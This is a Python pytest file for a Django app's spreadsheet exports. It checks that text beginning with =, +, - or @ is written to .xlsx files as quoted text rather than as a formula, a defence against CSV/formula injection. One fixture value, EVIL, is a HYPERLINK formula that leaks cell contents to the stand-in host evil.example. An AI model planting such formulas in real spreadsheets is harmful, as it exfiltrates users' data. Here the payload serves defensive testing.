"""Text that looks like a formula (=, +, -, @ first: OWASP's "CSV injection") is written to every .xlsx as
text, never as a formula, and shown as it was typed; ordinary Chinese text is left exactly as it is."""
from __future__ import annotations

import io
import re
import zipfile

import pytest
from django.core.management import call_command

from duban.directory.exchange import read_xlsx
from duban.directory.models import Unit, UnitAlias
from duban.documents.xlsx_docs import FORMULA_START
from duban.exports.models import ExportJob
from duban.plans.models import Task
from tests.assessment.year import FINANCE, JUSTICE

from .reading import workbook

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
PLUS = "+10月31日前完成"
AT_UNIT = "@区司法局"


@pytest.fixture
def hostile_year(year):
    task = Task.objects.get(plan=year.plan, no=2)  # overdue: it is in the bulletin's list too
    Task.objects.filter(pk=task.pk).update(requirement=EVIL, deadline_text=PLUS)
    Unit.objects.filter(org=year.plan.org, name=JUSTICE).update(name=AT_UNIT)
    return year


def generate(client, plan, kind, **params) -> bytes:
    r = client.post(f"/plans/{plan.pk}/documents/new/", {"kind": kind, "fmt": "xlsx", **params})
    assert r.status_code == 302
    call_command("run_exports", stdout=io.StringIO())
    job = ExportJob.objects.latest("id")
    assert job.status == ExportJob.DONE, job.message
    r = client.get(f"/exports/{job.pk}/download/")
    return b"".join(r.streaming_content)


def check_no_formulas(blob: bytes) -> dict[str, object]:
    """Every cell of every sheet: none a formula; text starting like one is a string with Excel's quote
    prefix. Returns the cells by text."""
    with zipfile.ZipFile(io.BytesIO(blob)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", z.read(name)), f"a formula in {name}"
    cells = {}
    for ws in workbook(blob).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    cells.setdefault(cell.value, cell)
                    looks = cell.value.startswith(FORMULA_START)
                    assert cell.quotePrefix == looks, (ws.title, cell.coordinate, cell.value)
    return cells


def test_every_xlsx_document_writes_formula_like_text_as_text(hostile_year, as_user, coordinator, unit):
    client = as_user(coordinator)
    plan = hostile_year.plan
    finance = unit(FINANCE)
    documents = {
        "division": generate(client, plan, "division"),
        "unit_list": generate(client, plan, "unit_list", unit=finance.pk),
        "annual": generate(client, plan, "annual", date="2021-12-31"),
        "assessment": generate(client, plan, "assessment", as_of="2021-12-31"),
    }
    form = client.get(f"/plans/{plan.pk}/documents/bulletin/?as_of=2021-12-31").context["form"]
    data = {k: v for k, v in form.initial.items() if v is not None}
    data.update({"fmt": "xlsx", "as_of": "2021-12-31", "date": "2022-01-04", "named": f"{AT_UNIT}｜通报批评｜-有任务逾期"})
    assert client.post(f"/plans/{plan.pk}/documents/bulletin/", data).status_code == 302
    call_command("run_exports", stdout=io.StringIO())
    job = ExportJob.objects.latest("id")
    assert job.status == ExportJob.DONE, job.message
    documents["bulletin"] = b"".join(client.get(f"/exports/{job.pk}/download/").streaming_content)

    found = {kind: check_no_formulas(blob) for kind, blob in documents.items()}
    # The hostile texts are there, exactly as typed, where each document shows them.
    for kind in ("division", "unit_list", "bulletin"):
        assert EVIL in found[kind], kind
    assert PLUS in found["division"] and PLUS in found["unit_list"]
    for kind in ("assessment", "bulletin"):
        assert AT_UNIT in found[kind], kind
    assert "-有任务逾期" in found["bulletin"]
    # Ordinary text is untouched: no prefix, no quote.
    assert found["division"][plan.title].quotePrefix is False
    assert found["assessment"][FINANCE].quotePrefix is False


def test_the_directory_export_writes_formula_like_text_as_text(org, as_user, coordinator, unit):
    UnitAlias.objects.create(org=org, alias=EVIL, unit=unit(FINANCE))
    Unit.objects.filter(org=org, name="区民政局").update(leader_name="-张三")
    r = as_user(coordinator).get("/directory/export.xlsx")
    assert r.status_code == 200
    blob = b"".join(r.streaming_content) if r.streaming else r.content
    cells = check_no_formulas(blob)
    assert EVIL in cells and "-张三" in cells
    assert cells["区财政局"].quotePrefix is False
    # It reads back as it was written.
    aliases = {a["alias"] for o in read_xlsx(io.BytesIO(blob))["organisations"] for a in o["aliases"]}
    assert EVIL in aliases
